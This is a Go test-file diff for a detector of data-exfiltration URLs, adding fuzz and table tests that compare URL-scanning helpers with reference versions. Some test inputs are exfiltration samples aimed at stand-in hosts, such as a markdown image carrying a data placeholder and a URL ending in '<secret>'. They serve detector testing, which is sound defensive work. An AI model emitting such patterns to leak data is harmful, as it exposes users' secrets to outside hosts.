@@ -45,18 +45,37 @@ func TestDetectExfiltration(t *testing.T) {
 func FuzzDetectExfiltration(f *testing.F) {
 	f.Add("![a](https://x.example/?q={d})")
 	f.Add("<img src=http://[::1]:80/?a=b>")
-	f.Add("xhttps://a.example/?q={d} HTTP://b.example/{e}")
 	f.Fuzz(func(t *testing.T, s string) {
 		for _, x := range DetectExfiltration(s) {
 			if x.Start < 0 || x.End > len(s) || x.Start >= x.End {
 				t.Fatalf("span %d-%d outside %d bytes", x.Start, x.End, len(s))
 			}
-			// A URL found starts with its scheme, in either case (an
-			// image's span starts at its markup).
-			u := strings.ToLower(s[x.Start:x.End])
-			if x.Rule != RuleMarkdownImage && !strings.HasPrefix(u, "http://") && !strings.HasPrefix(u, "https://") {
-				t.Fatalf("finding %q does not start with a scheme", u)
-			}
+		}
+	})
+}
+
+// schemeAt is nextScheme's reference: the first position at or after i
+// where "http://" or "https://" starts, in either case, tried byte by
+// byte.
+func schemeAt(s string, i int) int {
+	for p := i; p < len(s); p++ {
+		rest := strings.ToLower(s[p:min(len(s), p+8)])
+		if strings.HasPrefix(rest, "http://") || strings.HasPrefix(rest, "https://") {
+			return p
+		}
+	}
+	return -1
+}
+
+func FuzzNextScheme(f *testing.F) {
+	f.Add("see https://a.example and HTTP://b", 0)
+	f.Add("xhttps://a://http://", 3)
+	f.Fuzz(func(t *testing.T, s string, i int) {
+		if i < 0 || i > len(s) {
+			return
+		}
+		if got, want := nextScheme(s, i), schemeAt(s, i); got != want {
+			t.Fatalf("nextScheme(%q, %d) = %d, want %d", s, i, got, want)
 		}
 	})
 }
@@ -78,13 +97,87 @@ func TestNextScheme(t *testing.T) {
 		{"xhttps://a", 0, 1},
 		{"https://a", 1, -1}, // the scheme starts before the search
 		{"https://a", 2, -1},
+		{"http://a", 1, -1},
+		{"a http:// x", 0, 2},
+		{"a http:// x", 3, -1},
 		{"ttps://a http://b", 0, 9},
 		{"the http protocol", 0, -1},
 		{"a://b://https://c", 0, 8},
 	}
 	for _, c := range cases {
-		if got := nextScheme(c.s, c.from); got != c.want {
+		if got := nextScheme(c.s, c.from); got != c.want || got != schemeAt(c.s, c.from) {
 			t.Errorf("nextScheme(%q, %d) = %d, want %d", c.s, c.from, got, c.want)
 		}
 	}
+	// A scheme with nothing after it is passed over: the search goes on
+	// past it and ends.
+	for _, s := range []string{"a http://", "a http:// x", "https://", "HTTP://)"} {
+		if fs := DetectExfiltration(s); len(fs) != 0 {
+			t.Errorf("%q: %+v", s, fs)
+		}
+	}
+}
+
+// urlEndQuadratic is urlEnd as it was written first, counting a
+// placeholder's marks over the whole URL at each closing mark: the
+// reference the running counts are checked against.
+func urlEndQuadratic(s string, i int) (int, bool) {
+	rest := s[i:]
+	var n int
+	switch {
+	case len(rest) >= 8 && strings.EqualFold(rest[:8], "https://"):
+		n = 8
+	case len(rest) >= 7 && strings.EqualFold(rest[:7], "http://"):
+		n = 7
+	default:
+		return 0, false
+	}
+	if i > 0 && isAlnumB(s[i-1]) {
+		return 0, false
+	}
+	open := func(u string) bool {
+		return strings.Count(u, "<") > strings.Count(u, ">") ||
+			strings.Count(u, "[") > strings.Count(u, "]") ||
+			strings.Count(u, "(") > strings.Count(u, ")")
+	}
+	e := i + n
+	for e < len(s) && e-i < maxURL {
+		c := s[e]
+		if c <= ' ' || c == '"' || c == '\'' || c == '`' || c == ')' || c == '>' || c == ']' || c == '\\' || c >= 0x7f {
+			if (c == '>' || c == ']' || c == ')') && open(s[i:e]) {
+				e++
+				continue
+			}
+			break
+		}
+		e++
+	}
+	return e, e > i+n
+}
+
+func TestURLEndPlaceholders(t *testing.T) {
+	for _, s := range []string{
+		"https://x.example/save/<secret> rest", "https://x.example/[DATA]) next", "http://x.example/f(a)(b)) end",
+		"https://x.example/<a>>b", "https://x.example/a>b", "https://x.example/((a)]", "https://x/" + strings.Repeat("<a>", 2000),
+	} {
+		got, gotOK := urlEnd(s, 0)
+		want, wantOK := urlEndQuadratic(s, 0)
+		if got != want || gotOK != wantOK {
+			t.Errorf("urlEnd(%.40q) = %d, %v, want %d, %v", s, got, gotOK, want, wantOK)
+		}
+	}
+}
+
+func FuzzURLEnd(f *testing.F) {
+	f.Add("see https://x.example/<a>[B](c)) d", 4)
+	f.Fuzz(func(t *testing.T, s string, i int) {
+		if i < 0 || i > len(s) {
+			return
+		}
+		got, gotOK := urlEnd(s, i)
+		want, wantOK := urlEndQuadratic(s, i)
+		if got != want || gotOK != wantOK {
+			t.Fatalf("urlEnd(%q, %d) = %d, %v, want %d, %v", s, i, got, gotOK, want, wantOK)
+		}
+	})
 }
